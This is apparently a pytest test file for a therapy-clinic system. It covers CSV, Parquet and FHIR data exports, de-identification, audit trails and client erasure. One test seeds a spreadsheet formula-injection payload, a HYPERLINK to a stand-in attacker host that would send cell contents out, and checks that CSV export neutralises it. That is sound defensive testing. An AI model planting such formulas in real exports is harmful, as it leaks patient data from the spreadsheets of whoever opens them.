"""Exports (clinic CSV/Parquet/FHIR, full and de-identified; a client's data) and erasure."""

from __future__ import annotations

import io
import json
from collections.abc import Iterator
from typing import Any

import pandas as pd
import pytest
from clinic_world import COMMENT, GOAL, Clock, World, seed_goal_and_check_ins
from fhir.resources.R4B.bundle import Bundle
from sqlalchemy import select

from alliance.services import admin, clients, exports, goals, matching, timelines
from alliance.services.errors import NotFound
from alliance.store.db import transaction
from alliance.store.matching_tables import HandoverNote
from alliance.store.models import AuditEvent, Client, Goal, Response
from fhir_r4 import r4_problems


def test_a_full_csv_export_has_every_table_and_the_free_text(world: World, clock: Clock) -> None:
    seed_goal_and_check_ins(world, clock)
    files = exports.export_clinic(world.ctx, actor=world.ada, format="csv", deidentified=False)
    assert set(files) == {f"{t}.csv" for t in exports.TABLES} | {"codebook.md", "datapackage.json"}
    scores = pd.read_csv(io.BytesIO(files["scores.csv"]))
    assert sorted(scores["instrument_id"].unique()) == [
        "gad7",
        "phq9",
        "session_feedback",
        "wai_sr",
    ]
    assert "subscale_bond" in scores.columns
    answers = pd.read_csv(io.BytesIO(files["answers.csv"]))
    assert COMMENT in set(answers["answer"])
    assert GOAL in set(pd.read_csv(io.BytesIO(files["goals.csv"]))["text"])
    names = set(pd.read_csv(io.BytesIO(files["clients.csv"]))["display_name"])
    assert names == {"Sarah", "John"}  # Eve belongs to the other clinic


def test_a_deidentified_export_has_no_names_free_text_or_dates(world: World, clock: Clock) -> None:
    seed_goal_and_check_ins(world, clock)
    files = exports.export_clinic(world.ctx, actor=world.ada, format="parquet", deidentified=True)
    blob = b"".join(files.values())
    for secret in (b"Sarah", COMMENT.encode(), GOAL.encode(), b"sarah@mail.example"):
        assert secret not in blob
    clients_frame = pd.read_parquet(io.BytesIO(files["clients.parquet"]))
    assert list(clients_frame.columns) == ["client_id"]
    assert str(world.sarah) not in set(clients_frame["client_id"])
    scores = pd.read_parquet(io.BytesIO(files["scores.parquet"]))
    assert sorted(scores["at"].unique()) == [7.0, 14.0]  # days since the episode began


def test_a_fhir_export_is_a_bundle_of_responses_and_observations(
    world: World, clock: Clock
) -> None:
    seed_goal_and_check_ins(world, clock)
    files = exports.export_clinic(world.ctx, actor=world.ada, format="fhir", deidentified=True)
    bundle = json.loads(files["bundle.fhir.json"])
    kinds = [e["resource"]["resourceType"] for e in bundle["entry"]]
    assert kinds.count("QuestionnaireResponse") == 8
    codes = {
        c["code"]
        for e in bundle["entry"]
        if e["resource"]["resourceType"] == "Observation"
        for c in e["resource"]["code"]["coding"]
    }
    assert {"44261-6", "70274-6"} <= codes
    assert COMMENT not in files["bundle.fhir.json"].decode()


def _references(node: Any) -> Iterator[str]:
    """Every Reference.reference in ``node``, however deep."""
    if isinstance(node, dict):
        for key, child in node.items():
            if key == "reference" and isinstance(child, str):
                yield child
            else:
                yield from _references(child)
    elif isinstance(node, list):
        for child in node:
            yield from _references(child)


def _extension_urls(node: Any) -> Iterator[str]:
    if isinstance(node, dict):
        for key, child in node.items():
            if key in ("extension", "modifierExtension"):
                yield from (e["url"] for e in child)
            yield from _extension_urls(child)
    elif isinstance(node, list):
        for child in node:
            yield from _extension_urls(child)


@pytest.mark.parametrize("deidentified", [False, True], ids=["full", "deidentified"])
def test_every_reference_in_a_fhir_export_resolves_inside_the_bundle(
    world: World, clock: Clock, deidentified: bool
) -> None:
    seed_goal_and_check_ins(world, clock)
    files = exports.export_clinic(
        world.ctx, actor=world.ada, format="fhir", deidentified=deidentified
    )
    bundle = json.loads(files["bundle.fhir.json"])
    Bundle.model_validate(bundle)  # valid by the fhir.resources R4B models
    assert r4_problems(bundle) == []  # and by the official R4 JSON schema
    by_url = {e["fullUrl"]: e["resource"] for e in bundle["entry"]}
    assert len(by_url) == len(bundle["entry"])
    references = list(_references(bundle))
    assert len(references) > 8  # subjects and derivedFrom: there is something to resolve
    for reference in references:
        assert reference in by_url, f"{reference} is no entry's fullUrl"
    # Each response's subject is a Patient and its questionnaire (url|version) is in the Bundle.
    questionnaires = {
        f"{r['url']}|{r['version']}"
        for r in by_url.values()
        if r["resourceType"] == "Questionnaire"
    }
    responses = [r for r in by_url.values() if r["resourceType"] == "QuestionnaireResponse"]
    assert len(responses) == 8
    for response in responses:
        assert by_url[response["subject"]["reference"]]["resourceType"] == "Patient"
        assert response["questionnaire"] in questionnaires
        assert response["questionnaire"].count("|") == 1
    # Every extension URL of ours has its StructureDefinition in the Bundle.
    defined = {r["url"] for r in by_url.values() if r["resourceType"] == "StructureDefinition"}
    ours = {u for u in _extension_urls(bundle) if u.startswith("urn:alliance:")}
    assert ours
    assert ours <= defined
    patients = [r for r in by_url.values() if r["resourceType"] == "Patient"]
    with transaction(world.ctx.session_factory) as session:
        clinic = session.scalars(select(Client.id).where(Client.clinic_id == world.ada.clinic_id))
        assert len(patients) == len(clinic.all())
    if deidentified:
        assert all(set(p) == {"resourceType", "id", "identifier", "meta"} for p in patients)
        assert all(p["meta"]["security"][0]["code"] == "PSEUDED" for p in patients)
        assert str(world.sarah) not in {p["id"] for p in patients}
        assert "Sarah" not in files["bundle.fhir.json"].decode()
    else:
        sarah = next(p for p in patients if p["id"] == str(world.sarah))
        assert sarah["name"] == [{"text": "Sarah"}]


def test_exports_are_audited(world: World, clock: Clock) -> None:
    seed_goal_and_check_ins(world, clock)
    exports.export_clinic(world.ctx, actor=world.ada, format="csv", deidentified=True)
    exports.export_client(world.ctx, actor=world.ada, client_id=world.sarah)
    events = admin.list_audit_events(world.ctx, actor=world.ada, action="export")
    assert [(e.entity_type, e.detail.get("deidentified")) for e in events] == [
        ("client", None),
        ("clinic", True),
    ]


def test_a_client_export_holds_their_data_and_a_fhir_bundle(world: World, clock: Clock) -> None:
    seed_goal_and_check_ins(world, clock)
    document = exports.export_client(world.ctx, actor=world.ada, client_id=world.sarah)
    assert document["clients"][0]["contact_email"] == "sarah@mail.example"
    assert document["goals"][0]["text"] == GOAL
    assert len(document["scores"]) == 8
    assert document["fhir"]["resourceType"] == "Bundle"
    json.dumps(document)


def test_erasing_a_client_deletes_their_data_and_keeps_a_contentless_audit_record(
    world: World, clock: Clock
) -> None:
    seed_goal_and_check_ins(world, clock)
    receipt = exports.erase_client(world.ctx, actor=world.ada, client_id=world.sarah)
    assert receipt.deleted["responses"] == 8
    with transaction(world.ctx.session_factory) as session:
        assert session.get(Client, world.sarah) is None
        assert session.scalars(select(Response)).all() == []
        assert session.scalars(select(Goal)).all() == []
        events = session.scalars(select(AuditEvent)).all()
        [erase] = [e for e in events if e.action == "erase"]
        assert erase.entity_id == str(world.sarah)
        trail = json.dumps([e.detail for e in events])
    for secret in (COMMENT, GOAL, "Sarah", "sarah@mail.example"):
        assert secret not in trail
    with pytest.raises(NotFound):
        timelines.client_timeline(world.ctx, actor=world.alice, client_id=world.sarah)


def test_only_an_admin_may_erase(world: World) -> None:
    from alliance.services.errors import Forbidden

    with pytest.raises(Forbidden):
        exports.erase_client(world.ctx, actor=world.alice, client_id=world.sarah)
    assert clients.get_client(world.ctx, actor=world.alice, client_id=world.sarah)


def test_a_client_export_lists_who_read_or_changed_their_record(world: World) -> None:
    timelines.client_timeline(world.ctx, actor=world.alice, client_id=world.sarah)
    document = exports.export_client(world.ctx, actor=world.ada, client_id=world.sarah)
    log = [(e["actor_id"], e["action"], e["what"]) for e in document["access_log"]]
    assert log[0] == (world.alice.user_id, "write", "create")
    assert (world.alice.user_id, "read", "timeline") in log


def test_a_csv_export_neutralises_text_that_a_spreadsheet_would_run(
    world: World, clock: Clock
) -> None:
    payload = '=HYPERLINK("http://evil.example/?d="&A1,"open")'
    goals.agree_goals(
        world.ctx, actor=world.alice, episode_id=world.sarah_episode, goals=[payload, "-quit"]
    )
    files = exports.export_clinic(world.ctx, actor=world.ada, format="csv", deidentified=False)
    texts = set(pd.read_csv(io.BytesIO(files["goals.csv"]))["text"])
    assert {"'" + payload, "'-quit"} <= texts
    assert payload not in texts
    # The same goals in Parquet are data for programs, not spreadsheets: unchanged.
    parquet = exports.export_clinic(
        world.ctx, actor=world.ada, format="parquet", deidentified=False
    )
    assert payload in set(pd.read_parquet(io.BytesIO(parquet["goals.parquet"]))["text"])


def test_erasing_a_client_who_came_through_matching_removes_their_intake_and_notes(
    world: World,
) -> None:
    from alliance.services import exports
    from alliance.store.matching_tables import IntakeRequest, MatchDecision
    from encrypted_values import INTAKE, PROFILE

    matching.save_profile(world.ctx, actor=world.bob, profile=PROFILE)
    intake_id = matching.submit_intake(
        world.ctx,
        clinic_id=world.north,
        intake=INTAKE,
        contact_name="Robin",
        contact_email="robin@mail.example",
    )
    placed = matching.decide(
        world.ctx, actor=world.ada, intake_id=intake_id, therapist_id=world.bob.user_id, force=True
    )
    assert placed.client_id is not None
    assert placed.episode_id is not None
    matching.hand_over(
        world.ctx,
        actor=world.bob,
        episode_id=placed.episode_id,
        therapist_id=world.alice.user_id,
        client_consented=True,
        note="Robin asked for someone else.",
    )
    receipt = exports.erase_client(world.ctx, actor=world.ada, client_id=placed.client_id)
    assert receipt.deleted["intake_requests"] == 1
    assert receipt.deleted["match_decisions"] == 1
    assert receipt.deleted["handover_notes"] == 1
    with world.ctx.session_factory.begin() as session:
        assert session.scalars(select(IntakeRequest)).all() == []
        assert session.scalars(select(MatchDecision)).all() == []
        assert session.scalars(select(HandoverNote)).all() == []
